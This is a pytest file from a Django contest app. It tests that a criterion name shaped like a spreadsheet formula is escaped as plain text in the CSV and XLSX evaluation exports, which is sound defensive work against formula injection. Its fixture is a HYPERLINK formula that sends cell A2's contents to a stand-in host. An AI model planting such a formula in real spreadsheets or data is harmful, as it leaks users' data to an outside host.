"""The contest exports' header row is spreadsheet-safe too: a rubric criterion named like a
formula (its name becomes a column) stays text in the CSV and the XLSX."""

import io

import pytest
from openpyxl import load_workbook

from contests.models import Criterion

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/?d="&A2,"Ver")'


def test_a_criterion_named_like_a_formula_stays_text_in_both_exports(call, coordinator_client):
    Criterion.objects.create(call=call, name=FORMULA, weight=1, min_score=0, max_score=10)
    csv = coordinator_client.get(f"/admin/concursos/{call.pk}/exportar/evaluaciones.csv")
    assert csv.status_code == 200
    header = csv.content.decode().lstrip("\ufeff").splitlines()[0]
    assert "'=HYPERLINK" in header
    xlsx = coordinator_client.get(f"/admin/concursos/{call.pk}/exportar/evaluaciones.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for c in next(sheet.iter_rows(max_row=1)) if "HYPERLINK" in str(c.value)]
    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].value == "'" + FORMULA
